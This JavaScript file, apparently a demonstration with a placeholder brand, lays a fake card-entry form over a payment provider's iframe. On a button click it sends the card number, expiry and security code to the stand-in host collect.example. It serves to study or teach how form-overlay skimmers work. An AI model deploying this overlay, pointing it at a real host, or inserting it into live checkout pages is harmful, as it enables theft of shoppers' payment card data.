// A stand-in for a fake form, inert: it lies over the payment company's frame and sends to an address that is nobody's.
const english = document.documentElement.lang === 'en';
const fake = document.createElement('form');
fake.className = 'cover';
const brand = document.createElement('p');
brand.className = 'brand';
brand.textContent = english ? 'Renshu Pay' : '練習ペイ';
fake.append(brand);
const add = (id, kind, ja, en) => {
  const line = document.createElement('p');
  const name = document.createElement('label');
  const field = document.createElement('input');
  line.className = kind === 'cc-number' ? '' : 'half';
  name.htmlFor = id;
  name.textContent = english ? en : ja;
  Object.assign(field, { id, name: id, autocomplete: kind });
  line.append(name, field);
  fake.append(line);
};
add('card_number', 'cc-number', 'カード番号', 'Card number');
add('card_expiry', 'cc-exp', '有効期限（月/年）', 'Expiry (MM/YY)');
add('security_code', 'cc-csc', 'セキュリティコード', 'Security code');
addEventListener('load', () => {
  const frame = document.querySelector('iframe');
  fake.style.top = `${frame.offsetTop}px`;
  fake.style.height = `${frame.offsetHeight}px`;
  document.body.append(fake);
});
document.querySelector('button').addEventListener('click', () => {
  const body = new URLSearchParams(new FormData(fake)).toString();
  navigator.sendBeacon('https://collect.example/c', body);
});
